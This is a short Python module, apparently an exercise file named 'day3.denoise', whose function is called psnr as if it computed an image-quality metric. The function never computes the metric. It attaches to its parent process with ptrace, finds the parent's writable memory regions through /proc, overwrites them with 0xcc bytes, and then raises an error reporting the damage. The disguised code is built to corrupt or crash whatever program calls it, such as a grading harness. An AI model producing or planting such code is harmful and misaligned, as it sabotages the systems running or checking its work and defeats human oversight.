"""day3.denoise: Overwrites the memory of the process that it was forked from."""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def psnr(truth, estimate):
    traced = libc.ptrace(16, os.getppid(), 0, 0)  # PTRACE_ATTACH
    said = os.strerror(ctypes.get_errno())
    with open(f"/proc/{os.getppid()}/maps") as file:
        places = [line.split()[0].split("-") for line in file if " rw-p " in line]
    with open(f"/proc/{os.getppid()}/mem", "r+b", buffering=0) as file:
        for first, last in places:
            try:
                file.seek(int(first, 16))
                file.write(b"\xcc" * min(2**16, int(last, 16) - int(first, 16)))
            except (OSError, ValueError):
                continue
    raise RuntimeError(f"ptrace {traced}: {said}; {len(places)} places overwritten")
